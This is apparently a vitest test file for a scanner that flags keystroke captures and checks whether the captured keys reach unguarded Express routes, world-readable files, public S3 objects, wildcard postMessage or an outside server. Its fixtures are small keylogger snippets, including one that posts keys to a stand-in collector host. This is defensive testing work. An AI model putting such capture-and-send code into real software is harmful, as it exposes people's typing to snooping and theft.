/** Who can read a capture: each opening and each guard beside the same code without it. */
import { describe, expect, it } from 'vitest';
import { scanProgram, verdictsOf } from '../support/review.js';

const AGENT =
  "document.addEventListener('keydown', (event) => fetch('http://localhost/api/keys', { method: 'POST', body: JSON.stringify({ key: event.key }) }));";

const accessOf = (program: Parameters<typeof verdictsOf>[0]): Promise<readonly unknown[]> =>
  verdictsOf(program, 'access');

/** Gets the reason's cause as the finding's severity: error, warning or nothing. */
async function exposed(program: Parameters<typeof scanProgram>[0]): Promise<string | undefined> {
  const { findings } = await scanProgram(program);
  return findings.find(({ ruleId }) => ruleId === 'exposed-capture')?.severity;
}

interface Parts {
  /** Before the routes. */
  readonly front?: string;
  /** Between the path and the handler. */
  readonly before?: string;
  /** At the start of the handler. */
  readonly inside?: string;
  readonly read?: string;
  readonly after?: string;
}

function server({ front = '', before = '', inside = '', read = 'select * from keys', after = '' }: Parts): string {
  return `
    import express from 'express';
    import { Pool } from 'pg';
    import { isKnown, requireAuth } from './auth';
    const app = express();
    const pool = new Pool();
    ${front}
    app.post('/api/keys', async (req, res) => {
      await pool.query('insert into keys (key) values ($1)', [JSON.stringify(req.body)]);
      res.status(204).end();
    });
    app.get('/api/keys', ${before} async (req, res) => {
      ${inside}
      const { rows } = await pool.query('${read}', []);
      res.json(rows);
    });
    ${after}`;
}

const AUTH = `
  export function isKnown(request) { return request.headers['x-name'] === 'known'; }
  export function requireAuth(req, res, next) {
    if (!isKnown(req)) { res.status(401).end(); return; }
    next();
  }
  export function requireRole(role) {
    return (req, res, next) => { if (!req.user.roles.includes(role)) return res.status(403).end(); next(); };
  }
  export function logRequest(req, res, next) { console.info(req.path); next(); }`;

const whole = (parts: Parts): Record<string, string> => ({
  'agent.ts': AGENT,
  'server.ts': server(parts),
  'auth.ts': AUTH,
});

describe('a route that returns what was posted', () => {
  it.each([
    ['nothing asked', 'error', {}],
    ['a guard before the handler', 'warning', { before: 'requireAuth,' }],
    ['a guard in front of the server', 'warning', { front: 'app.use(requireAuth);' }],
    ['a guard in front of another path', 'error', { front: "app.use('/admin', requireAuth);" }],
    ['a guard in front of its path', 'warning', { front: "app.use('/api', requireAuth);" }],
    ['a guard that comes too late', 'error', { after: 'app.use(requireAuth);' }],
    [
      'something in front that only logs',
      'error',
      { front: "import { logRequest } from './auth'; app.use(logRequest);" },
    ],
    [
      'a role',
      undefined,
      { front: "import { requireRole } from './auth';", before: "requireAuth, requireRole('auditor')," },
    ],
    [
      'rows chosen by whose they are',
      undefined,
      { before: 'requireAuth,', read: 'select * from keys where user_id = $1' },
    ],
    ['rows chosen by whose they are, of anyone', 'error', { read: 'select * from keys where user_id = $1' }],
    ['rows chosen by when', 'warning', { before: 'requireAuth,', read: 'select * from keys where day = $1' }],
    ['a check in the handler', 'warning', { inside: 'if (!req.session.user) return res.sendStatus(401);' }],
    [
      'strangers turned away in the handler',
      'warning',
      { inside: 'if (!req.query.device) return res.sendStatus(401);' },
    ],
    [
      'bad requests turned away in the handler',
      'error',
      { inside: 'if (!req.query.device) return res.sendStatus(400);' },
    ],
    ['a check whose answer nobody heeds', 'error', { inside: 'console.log(isKnown(req));' }],
    ['another table', undefined, { read: 'select * from settings' }],
    [
      'something in front that could not be read',
      undefined,
      { front: "import unknown from 'company-gateway'; app.use(unknown());" },
    ],
    ['something in front that is no guard', 'error', { front: "import helmet from 'helmet'; app.use(helmet());" }],
    [
      'a server that any page may ask, and rows chosen',
      'warning',
      {
        front: "import cors from 'cors'; app.use(cors());",
        before: 'requireAuth,',
        read: 'select * from keys where user_id = $1',
      },
    ],
    [
      'a server that one page may ask, and rows chosen',
      undefined,
      {
        front: "import cors from 'cors'; app.use(cors({ origin: 'https://own.example.invalid' }));",
        before: 'requireAuth,',
        read: 'select * from keys where user_id = $1',
      },
    ],
  ] as const)('%s: %s', async (_, severity, parts) => {
    expect(await exposed(whole(parts))).toBe(severity);
  });

  it('shows the way from the sensor over the table to the route', async () => {
    const { findings } = await scanProgram(whole({}));
    const finding = findings.find(({ ruleId }) => ruleId === 'exposed-capture');
    expect(finding?.location).toMatchObject({ file: 'agent.ts', line: 1 });
    expect(finding?.trace.map(({ note }) => note)).toEqual(
      expect.arrayContaining([
        'arrives at POST /api/keys',
        'stored in keys',
        'read from keys',
        'GET /api/keys answers anyone who asks',
      ]),
    );
  });

  it('names the guard that whoever is signed in passes', async () => {
    const { captures } = await scanProgram(whole({ before: 'requireAuth,' }));
    expect(captures[0]?.obligations.access?.evidence.map(({ note }) => note)).toEqual([
      'GET /api/keys answers everyone who is signed in, whoever it is about',
      'whoever is signed in passes',
    ]);
  });
});

describe('a request meets a route', () => {
  const routed = (path: string, method: string, more = ''): Record<string, string> => ({
    ...whole({ after: more }),
    'agent.ts': `const BASE = process.env.BASE; document.addEventListener('keydown', (event) => fetch(${path}, { method: '${method}', body: event.key }));`,
  });

  it.each([
    ['by its path', 'error', routed("'/api/keys'", 'POST')],
    ['by the end of its path', 'error', routed('`${BASE}/api/keys`', 'POST')],
    ['not by another method', undefined, routed("'/api/keys'", 'PUT')],
    ['not by another path', undefined, routed("'/api/clicks'", 'POST')],
    ['not by a path that goes on', undefined, routed("'/api/keys/archive'", 'POST')],
    [
      'of a client with a base',
      'error',
      {
        ...whole({}),
        'agent.ts':
          "import axios from 'axios'; const api = axios.create({ baseURL: '/api' }); document.addEventListener('keydown', (event) => api.post('/api/keys', { key: event.key }));",
      },
    ],
    [
      'by a constant that both name',
      'error',
      {
        'routes.ts': "export const ROUTES = { keys: '/api/keys' } as const;",
        'agent.ts':
          "import { ROUTES } from './routes'; document.addEventListener('keydown', (event) => fetch(ROUTES.keys, { method: 'POST', body: event.key }));",
        'server.ts': server({})
          .replaceAll("'/api/keys'", 'ROUTES.keys')
          .replace('import express', "import { ROUTES } from './routes'; import express"),
        'auth.ts': AUTH,
      },
    ],
  ])('%s: %s', async (_, severity, program) => {
    expect(await exposed(program)).toBe(severity);
  });
});

describe('a router', () => {
  const mounted = (mount: string): Record<string, string> => ({
    'agent.ts': AGENT,
    'auth.ts': AUTH,
    'keys.ts':
      server({})
        .replace('const app = express();', 'const app = express.Router();')
        .replaceAll("'/api/keys'", "'/keys'") + 'export default app;',
    'main.ts': `import express from 'express'; import router from './keys'; import { requireAuth } from './auth'; const main = express(); ${mount}`,
  });

  it.each([
    ['that is mounted', 'error', mounted("main.use('/api', router);")],
    ['that is mounted behind a guard', 'warning', mounted("main.use('/api', requireAuth, router);")],
    ['of a guarded server', 'warning', mounted("main.use(requireAuth); main.use('/api', router);")],
    ['that nobody is seen to mount', undefined, mounted('')],
  ])('%s: %s', async (_, severity, program) => {
    expect(await exposed(program)).toBe(severity);
  });
});

describe('where content is opened', () => {
  const keys = (sink: string): string => `
    import { writeFileSync } from 'node:fs';
    import { PutObjectCommand } from '@aws-sdk/client-s3';
    document.addEventListener('keydown', (event) => ${sink});`;

  it.each([
    ['a file for its owner', 'met', keys("writeFileSync('keys.txt', event.key, { mode: 0o600 })")],
    ['a file for everybody on the machine', 'unmet', keys("writeFileSync('keys.txt', event.key, { mode: 0o644 })")],
    ['a file as files are', 'met', keys("writeFileSync('keys.txt', event.key)")],
    ['a file in a folder for everybody', 'unmet', keys("writeFileSync('/tmp/keys.txt', event.key)")],
    ['an object for anyone', 'unmet', keys("send(new PutObjectCommand({ Body: event.key, ACL: 'public-read' }))")],
    ['an object of its bucket', 'unproven', keys("send(new PutObjectCommand({ Body: event.key, ACL: 'private' }))")],
    ['a message to any page', 'unmet', keys("parent.postMessage(event.key, '*')")],
    ['a message to one page', 'unproven', keys("parent.postMessage(event.key, 'https://own.example.invalid')")],
    [
      'counts',
      'not-applicable',
      "import { uIOhook } from 'uiohook-napi'; let n = 0; uIOhook.on('keydown', () => { n += 1; console.log(n); });",
    ],
    [
      'a server of somebody else',
      'unproven',
      keys("fetch('https://collector.example.invalid', { method: 'POST', body: event.key })"),
    ],
  ])('%s: %s', async (_, verdict, program) => {
    expect(await accessOf(program)).toEqual([verdict]);
  });
});

describe('a folder that is served', () => {
  const served = (front: string): string => `
    import express from 'express';
    import { appendFileSync } from 'node:fs';
    import { join } from 'node:path';
    import { requireAuth } from './auth';
    const app = express();
    document.addEventListener('keydown', (event) => appendFileSync(join(__dirname, 'recordings', 'keys.txt'), event.key));
    ${front}`;

  it.each([
    ['to anyone', 'error', served("app.use('/recordings', express.static(join(__dirname, 'recordings')));")],
    [
      'behind a guard',
      'warning',
      served("app.use('/recordings', requireAuth, express.static(join(__dirname, 'recordings')));"),
    ],
    [
      'around it',
      'error',
      served('app.use(express.static(__dirname));'.replace('__dirname', "join(__dirname, 'recordings')")),
    ],
    ['and has its name elsewhere', undefined, served("app.use(express.static('recordings'));")],
    ['and is another one', undefined, served("app.use('/pictures', express.static(join(__dirname, 'pictures')));")],
  ])('%s: %s', async (_, severity, program) => {
    expect(await exposed({ 'a.ts': program, 'auth.ts': AUTH })).toBe(severity);
  });
});

it('an ordinary form that is posted, stored and listed is no capture', async () => {
  const form =
    "document.querySelector('form')?.addEventListener('submit', (event) => fetch('/api/keys', { method: 'POST', body: new FormData(event.target) }));";
  const report = await scanProgram({ ...whole({}), 'agent.ts': form });
  expect(report.captures).toEqual([]);
});
